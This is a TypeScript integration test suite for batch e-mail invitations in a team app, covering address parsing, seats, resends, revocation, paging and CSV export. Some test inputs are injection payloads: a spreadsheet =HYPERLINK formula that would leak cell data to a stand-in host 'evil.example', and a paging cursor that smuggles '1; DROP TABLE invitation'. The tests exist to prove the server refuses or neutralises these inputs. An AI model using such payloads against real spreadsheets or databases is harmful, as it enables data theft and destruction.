import { randomBytes } from 'node:crypto';
import { and, count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { schema } from '../src/db/client.ts';
import { invitation } from '../src/db/schema/invitations.ts';
import type { SignedInUser } from './support/client.ts';
import { paths } from './support/factories.ts';
import { checkSeatInvariantAfterEach } from './support/invariants.ts';
import { outboxSettled } from './support/outbox.ts';
import { seedUser } from './support/seed.ts';
import { type ReceivedMail, startSmtpServer } from './support/smtp.ts';
import { createTeam, join, type Team } from './support/team.ts';
import { startTestServer, type TestServer } from './support/test-server.ts';
import { waitFor } from './support/wait.ts';

// E-mail invitations in batches (issue 16, item 1; docs/decisions/0030), through the real
// server, worker and an SMTP capture, on PGlite and PostgreSQL.

let server: TestServer;
let smtp: Awaited<ReturnType<typeof startSmtpServer>>;
beforeAll(async () => {
  smtp = await startSmtpServer();
  server = await startTestServer({ SMTP_URL: smtp.url });
});
afterAll(async () => {
  await server?.close();
  await smtp?.close();
});
checkSeatInvariantAfterEach(() => server?.database.db);

type Report = {
  lines: number;
  addresses: { line: number; email: string; hasPlus: boolean; sentRecently: boolean }[];
  problems: { line: number; text: string; reason: string; message: string }[];
  seats: { total: number; used: number; available: number };
  alreadyPlus: number;
  seatsNeeded: number;
  seatsShort: number;
  sent?: number;
};
type Listed = { id: string; email: string; status: string; needsNewLink: boolean; sendCount: number };

const tag = () => randomBytes(4).toString('hex');
const path = (team: Team) => `/api/v1/organizations/${team.org.id}/invitations`;
/** The invitation mails an address received (a member also gets notification mail). */
const mailsTo = (address: string): ReceivedMail[] =>
  smtp.received.filter((m) => m.to.includes(address) && m.subject.includes('invites you to join'));
const list = async (team: Team) =>
  (await team.admin.client.get<{ invitations: Listed[]; needsNewLink: number }>(path(team))).body;
const rowCount = async (team: Team) => {
  const [row] = await server.database.db
    .select({ n: count() })
    .from(invitation)
    .where(eq(invitation.organizationId, team.org.id));
  return row?.n ?? 0;
};
/** The link in an invitation mail. */
const linkIn = (mail: ReceivedMail) => /https?:\/\/\S+\/join\/\S+/.exec(mail.text)?.[0] ?? '';

async function withPersonalPlus(user: SignedInUser) {
  await server.database.db.insert(schema.personalPlus).values({ userId: user.id });
}

describe('sending a batch', () => {
  it('reports bad lines, duplicates and members, and mails every valid address once with the link', async () => {
    const team = await createTeam(server.url);
    const t = tag();
    const [ann, bob, cy] = [`ann-${t}@example.com`, `bob-${t}@example.com`, `cy-${t}@example.com`];
    const text = [
      'name,email',
      `Ann Lee,${ann.toUpperCase()}`,
      `"Bob Stone" <${bob}>`,
      ann,
      team.member.email,
      'not an address',
      `=HYPERLINK("http://evil.example/?"&A1,"${t}@example.com")`,
      `eve\u0007-${t}@example.com`,
      // A phone number is not a formula.
      `Cy,${cy},+44 20 7946 0000`,
      '',
    ].join('\n');
    const sent = await team.admin.client.post<Report>(path(team), { addresses: text });
    expect(sent.status, sent.text).toBe(201);
    expect(sent.body.sent).toBe(3);
    expect(sent.body.addresses.map((a) => a.email)).toEqual([ann, bob, cy]);
    expect(sent.body.problems.map((p) => [p.line, p.reason])).toEqual([
      [1, 'header'],
      [4, 'duplicate'],
      [5, 'already_member'],
      [6, 'not_an_address'],
      [7, 'formula'],
      [8, 'control_characters'],
    ]);
    expect(sent.body.problems[1]?.message).toMatch(/line 2/);
    // Echoed as text, control characters shown as �, never as they were.
    expect(sent.body.problems[5]?.text).toBe(`eve\ufffd-${t}@example.com`);

    await outboxSettled(server);
    for (const address of [ann, bob, cy]) {
      const mails = mailsTo(address);
      expect(mails).toHaveLength(1);
      expect(mails[0]?.subject).toBe('Adam Admin invites you to join Acme on Roster');
      expect(linkIn(mails[0]!)).toMatch(new RegExp(`^${team.org.inviteUrl}\\?i=[0-9a-f-]{36}$`));
    }
    expect(mailsTo(team.member.email)).toHaveLength(0);
    const listed = await list(team);
    expect(listed.invitations.map((i) => [i.email, i.status]).sort()).toEqual([
      [ann, 'invited'],
      [bob, 'invited'],
      [cy, 'invited'],
    ]);
  });

  it('says how many seats are free, how many addresses have Plus, and how many seats are short', async () => {
    // 5 seats; owner, admin and member hold 3 of them.
    const team = await createTeam(server.url, { seats: 5 });
    const plusPerson = await seedUser(server, { email: `plus-${tag()}@example.com` });
    await withPersonalPlus(plusPerson);
    const t = tag();
    const text = [plusPerson.email, `a-${t}@example.com`, `b-${t}@example.com`, `c-${t}@example.com`].join(
      '\n',
    );
    const preview = await team.owner.client.post<Report>(`${path(team)}/preview`, { addresses: text });
    expect(preview.status, preview.text).toBe(200);
    expect(preview.body).toMatchObject({
      seats: { total: 5, used: 3, available: 2 },
      alreadyPlus: 1,
      seatsNeeded: 3,
      seatsShort: 1,
    });
    expect(preview.body.addresses.find((a) => a.email === plusPerson.email)?.hasPlus).toBe(true);
    // The preview writes nothing.
    expect(await rowCount(team)).toBe(0);
    const member = await team.member.client.post(`${path(team)}/preview`, { addresses: text });
    expect(member.status).toBe(403);
  });
});

describe('the mail', () => {
  it('shows the description and escapes names in HTML', async () => {
    const team = await createTeam(server.url);
    const org = `/api/v1/organizations/${team.org.id}`;
    await team.owner.client.patch(org, { name: 'A <b>&</b> Co', description: 'We fold paper planes.' });
    const address = `html-${tag()}@example.com`;
    await team.admin.client.post(path(team), { addresses: address });
    await outboxSettled(server);
    const [mail] = mailsTo(address);
    expect(mail?.text).toContain('We fold paper planes.');
    expect(mail?.html).toContain('A &lt;b&gt;&amp;&lt;/b&gt; Co');
    expect(mail?.html).not.toContain('<b>&</b>');
  });

  it('two batches racing for the same addresses: one is sent, the other refused whole', async () => {
    const team = await createTeam(server.url);
    const t = tag();
    const text = [`r1-${t}@example.com`, `r2-${t}@example.com`, `r3-${t}@example.com`];
    // In opposite orders: the writes still take the rows in one order (no deadlock, no 5xx).
    const replies = await Promise.all([
      team.admin.client.post(path(team), { addresses: text.join('\n') }),
      team.owner.client.post(path(team), { addresses: text.toReversed().join('\n') }),
    ]);
    expect(replies.map((r) => r.status).sort()).toEqual([201, 409]);
    expect(replies.find((r) => r.status === 409)?.body).toMatchObject({
      error: { code: 'INVITATION_SENT_RECENTLY' },
    });
    await outboxSettled(server);
    for (const n of [1, 2, 3]) expect(mailsTo(`r${n}-${t}@example.com`)).toHaveLength(1);
  });
});

describe('bad input', () => {
  it('refuses 10,000 lines whole, with a message and nothing written', async () => {
    const team = await createTeam(server.url);
    const lines = Array.from({ length: 10_000 }, (_, i) => `p${i}@x.io`).join('\n');
    const reply = await team.admin.client.post(path(team), { addresses: lines });
    expect(reply.status).toBe(400);
    expect(reply.body).toMatchObject({ error: { code: 'TOO_MANY_ADDRESSES' } });
    expect(reply.body.error.message).toMatch(/500 addresses.*10000 lines/);
    expect(await rowCount(team)).toBe(0);
  });

  it('binary junk is reported line by line, never a 5xx', async () => {
    const team = await createTeam(server.url);
    const junk = randomBytes(4000).toString('latin1');
    const reply = await team.admin.client.post<Report>(path(team), { addresses: junk });
    expect(reply.status, reply.text).toBeLessThan(500);
    if (reply.status === 201) expect(reply.body.sent).toBe(0);
    const nul = await team.admin.client.post<Report>(path(team), {
      addresses: `\u0000\u0001@\uffff\ud800\n`,
    });
    expect(nul.status, nul.text).toBe(201);
    expect(nul.body.problems[0]?.reason).toBe('control_characters');
    expect(await rowCount(team)).toBe(0);
  });

  it('500 lines of which 499 are bad: one sent, 499 reported', async () => {
    const team = await createTeam(server.url);
    const good = `good-${tag()}@example.com`;
    const lines = [...Array.from({ length: 499 }, (_, i) => `bad line ${i}`), good].join('\n');
    const reply = await team.admin.client.post<Report>(path(team), { addresses: lines });
    expect(reply.status, reply.text).toBe(201);
    expect(reply.body.sent).toBe(1);
    expect(reply.body.problems).toHaveLength(499);
    expect(reply.body.problems.every((p) => p.reason === 'not_an_address')).toBe(true);
    await outboxSettled(server);
    expect(mailsTo(good)).toHaveLength(1);
  });

  it('a body over the limit is a 413 with the error shape; a wrong type is a 400', async () => {
    const team = await createTeam(server.url);
    const huge = await team.admin.client.post(path(team), { addresses: 'a'.repeat(2_000_000) });
    expect(huge.status).toBe(413);
    expect(huge.body).toMatchObject({ error: { code: 'PAYLOAD_TOO_LARGE', message: expect.any(String) } });
    const long = await team.admin.client.post(path(team), { addresses: 'a'.repeat(300_000) });
    expect(long.status).toBe(400);
    expect(long.body).toMatchObject({ error: { code: 'VALIDATION_FAILED' } });
    const wrong = await team.admin.client.post(path(team), { addresses: ['a@b.c'] });
    expect(wrong.status).toBe(400);
    expect(wrong.body).toMatchObject({ error: { code: 'VALIDATION_FAILED' } });
    const text = await team.admin.client.post(path(team), 'a@b.c', { 'content-type': 'text/csv' });
    expect(text.status).toBe(415);
    expect(text.body).toMatchObject({ error: { code: 'UNSUPPORTED_MEDIA_TYPE' } });
  });

  it('the CSV export never lets a cell start a formula', async () => {
    const team = await createTeam(server.url);
    const admin = await seedUser(server, { name: '=HYPERLINK("http://evil.example")' });
    await join(admin, team.org);
    await team.owner.client.patch(team.memberPath(admin), { role: 'admin' });
    await admin.client.post(path(team), { addresses: `csv-${tag()}@example.com` });
    const csv = await team.owner.client.get(`${path(team)}.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
    expect(csv.text).not.toMatch(/(^|,)=/m);
  });
});

describe('sending again', () => {
  it('within a day needs confirmRepeat; without it nothing is sent', async () => {
    const team = await createTeam(server.url);
    const [a, b] = [`again-${tag()}@example.com`, `new-${tag()}@example.com`];
    expect((await team.admin.client.post(path(team), { addresses: a })).status).toBe(201);
    const preview = await team.admin.client.post<Report>(`${path(team)}/preview`, {
      addresses: `${a}\n${b}`,
    });
    expect(preview.body.addresses.map((x) => x.sentRecently)).toEqual([true, false]);
    const refused = await team.admin.client.post(path(team), { addresses: `${a}\n${b}` });
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ error: { code: 'INVITATION_SENT_RECENTLY' } });
    expect(refused.body.error.message).toContain(a);
    expect(await rowCount(team)).toBe(1);
    const confirmed = await team.admin.client.post<Report>(path(team), {
      addresses: `${a}\n${b}`,
      confirmRepeat: true,
    });
    expect(confirmed.status, confirmed.text).toBe(201);
    expect(confirmed.body.sent).toBe(2);
    await outboxSettled(server);
    expect(mailsTo(a)).toHaveLength(2);
    expect(mailsTo(b)).toHaveLength(1);
    const again = (await list(team)).invitations.find((i) => i.email === a);
    expect(again?.sendCount).toBe(2);

    // Resend by id: the same rule.
    const resend = await team.admin.client.post(`${path(team)}/resend`, { ids: [again?.id] });
    expect(resend.status).toBe(409);
    expect(resend.body).toMatchObject({ error: { code: 'INVITATION_SENT_RECENTLY' } });
    const ok = await team.admin.client.post(`${path(team)}/resend`, {
      ids: [again?.id],
      confirmRepeat: true,
    });
    expect(ok.body).toEqual({ resent: 1 });
    await outboxSettled(server);
    expect(mailsTo(a)).toHaveLength(3);
  });

  it('revoke: the invitation is revoked once, is not resent, and a batch invites the address again', async () => {
    const team = await createTeam(server.url);
    const a = `revoke-${tag()}@example.com`;
    await team.admin.client.post(path(team), { addresses: a });
    const [listed] = (await list(team)).invitations;
    const revoked = await team.admin.client.delete(`${path(team)}/${listed?.id}`);
    expect(revoked.status, revoked.text).toBe(200);
    expect(revoked.body).toMatchObject({ status: 'revoked', email: a });
    const twice = await team.admin.client.delete(`${path(team)}/${listed?.id}`);
    expect(twice.status).toBe(409);
    expect(twice.body).toMatchObject({ error: { code: 'INVITATION_NOT_PENDING' } });
    const resend = await team.admin.client.post(`${path(team)}/resend`, { ids: [listed?.id] });
    expect(resend.body).toMatchObject({ error: { code: 'INVITATION_NOT_PENDING' } });
    const member = await team.member.client.delete(`${path(team)}/${listed?.id}`);
    expect(member.status).toBe(403);
    const other = await createTeam(server.url);
    const foreign = await other.admin.client.delete(
      `/api/v1/organizations/${other.org.id}/invitations/${listed?.id}`,
    );
    expect(foreign.status).toBe(404);
    expect(foreign.body).toMatchObject({ error: { code: 'INVITATION_NOT_FOUND' } });
    // Invited again: no confirmation needed for a revoked one.
    const again = await team.admin.client.post<Report>(path(team), { addresses: a });
    expect(again.body.sent).toBe(1);
    expect((await list(team)).invitations[0]).toMatchObject({ status: 'invited', sendCount: 2 });
    const actions = await team.owner.client.get(`/api/v1/organizations/${team.org.id}/audit-log`);
    const kinds = (actions.body.events as { action: string }[]).map((e) => e.action);
    expect(kinds.filter((k) => k === 'invitations.sent')).toHaveLength(2);
    expect(kinds.filter((k) => k === 'invitation.revoked')).toHaveLength(1);
  });

  it('a link reset marks pending invitations as needing the new link; resend all mails the new one', async () => {
    const team = await createTeam(server.url);
    const [a, b] = [`reset-a-${tag()}@example.com`, `reset-b-${tag()}@example.com`];
    await team.admin.client.post(path(team), { addresses: `${a}\n${b}` });
    await outboxSettled(server);
    const oldLink = linkIn(mailsTo(a)[0]!);
    const regenerated = await team.owner.client.post(
      `/api/v1/organizations/${team.org.id}/invite-link/regenerate`,
    );
    expect(regenerated.status).toBe(200);
    const before = await list(team);
    expect(before.needsNewLink).toBe(2);
    expect(before.invitations.every((i) => i.needsNewLink)).toBe(true);
    // Their old mail is less than a day old, but its link is dead: no confirmation asked.
    const resent = await team.admin.client.post(`${path(team)}/resend`, { needsNewLink: true });
    expect(resent.status, resent.text).toBe(200);
    expect(resent.body).toEqual({ resent: 2 });
    await outboxSettled(server);
    const newLink = linkIn(mailsTo(a)[1]!);
    expect(newLink).not.toBe(oldLink);
    expect(newLink.startsWith(regenerated.body.url)).toBe(true);
    expect(mailsTo(b)).toHaveLength(2);
    const after = await list(team);
    expect(after.needsNewLink).toBe(0);
    // Nothing left to resend.
    expect((await team.admin.client.post(`${path(team)}/resend`, { needsNewLink: true })).body).toEqual({
      resent: 0,
    });
  });
});

describe('the list, page by page', () => {
  it('pages newest first without losing or repeating one, counts every page, and exports them all', async () => {
    const team = await createTeam(server.url);
    const t = tag();
    // 120 invitations written straight in, four to a millisecond: the id breaks the ties.
    const base = Date.now() - 3_600_000;
    await server.database.db.insert(invitation).values(
      Array.from({ length: 120 }, (_, n) => ({
        organizationId: team.org.id,
        email: `page-${n}-${t}@example.com`,
        invitedBy: team.admin.id,
        linkVersion: 1,
        sentAt: new Date(base + Math.floor(n / 4)),
      })),
    );
    const seen: Listed[] = [];
    let cursor: string | null = null;
    const sizes: number[] = [];
    do {
      const query: string = cursor ? `?cursor=${encodeURIComponent(cursor)}` : '';
      const page = await team.admin.client.get<{
        invitations: Listed[];
        nextCursor: string | null;
        total: number;
        needsNewLink: number;
      }>(`${path(team)}${query}`);
      expect(page.status, page.text).toBe(200);
      expect(page.body.total).toBe(120);
      sizes.push(page.body.invitations.length);
      seen.push(...page.body.invitations);
      cursor = page.body.nextCursor;
    } while (cursor);
    expect(sizes).toEqual([50, 50, 20]);
    expect(new Set(seen.map((i) => i.id)).size).toBe(120);
    // Newest first.
    expect(seen[0]?.email).toMatch(/^page-11[6-9]-/);
    expect(seen.at(-1)?.email).toMatch(/^page-[0-3]-/);

    const small = await team.admin.client.get(`${path(team)}?limit=7`);
    expect(small.body.invitations).toHaveLength(7);
    for (const [query, code] of [
      ['?limit=101', 'VALIDATION_FAILED'],
      ['?limit=0', 'VALIDATION_FAILED'],
      ['?cursor=not-one-of-ours', 'INVALID_CURSOR'],
      [
        `?cursor=${Buffer.from('["2026-01-01T00:00:00Z","1; DROP TABLE invitation"]').toString('base64url')}`,
        'INVALID_CURSOR',
      ],
    ]) {
      const bad = await team.admin.client.get(`${path(team)}${query}`);
      expect(bad.status, query).toBe(400);
      expect(bad.body.error.code, query).toBe(code);
    }

    // After a reset every page counts all 120 as needing the new link, not only its own.
    await team.owner.client.post(`/api/v1/organizations/${team.org.id}/invite-link/regenerate`);
    const last = await team.admin.client.get(`${path(team)}?limit=5`);
    expect(last.body.needsNewLink).toBe(120);

    const csv = await team.owner.client.get(`${path(team)}.csv`);
    expect(csv.status).toBe(200);
    const lines = csv.text.trim().split(/\r?\n/);
    expect(lines).toHaveLength(121);
    expect(new Set(lines.slice(1).map((l) => l.split(',')[0])).size).toBe(120);
  });
});

describe('invited → opened → joined', () => {
  it('opening the mail’s link marks it opened; joining marks it joined', async () => {
    const team = await createTeam(server.url);
    const person = await seedUser(server, { email: `joiner-${tag()}@example.com` });
    await team.admin.client.post(path(team), { addresses: person.email.toUpperCase() });
    await outboxSettled(server);
    const link = linkIn(mailsTo(person.email)[0]!);
    const { invitePath } = paths(link.split('?')[0]!);
    const query = new URL(link).search;
    // The preview answers the same with or without the marker, and with a bogus one.
    const plain = await person.client.get(invitePath);
    const bogus = await person.client.get(`${invitePath}?i=not-a-uuid`);
    const marked = await person.client.get(`${invitePath}${query}`);
    expect(marked.status).toBe(200);
    expect(marked.body).toEqual(plain.body);
    expect(bogus.body).toEqual(plain.body);
    const id = new URL(link).searchParams.get('i')!;
    const opened = await waitFor(async () => {
      const [row] = await server.database.db.select().from(invitation).where(eq(invitation.id, id));
      return row?.status === 'opened' && row;
    });
    expect(opened.openedAt).toBeInstanceOf(Date);
    // A marker of another organization's invitation changes nothing there.
    await join(person, team.org);
    const joined = await waitFor(async () => {
      const [row] = await server.database.db
        .select()
        .from(invitation)
        .where(and(eq(invitation.id, id), eq(invitation.status, 'joined')));
      return row;
    });
    expect(joined.joinedAt).toBeInstanceOf(Date);
    const listed = (await list(team)).invitations.find((i) => i.id === id);
    expect(listed).toMatchObject({ status: 'joined', needsNewLink: false });
    // A member now: a later batch reports them and sends nothing.
    const again = await team.admin.client.post<Report>(path(team), { addresses: person.email });
    expect(again.body.problems[0]?.reason).toBe('already_member');
    expect(again.body.sent).toBe(0);
  });
});
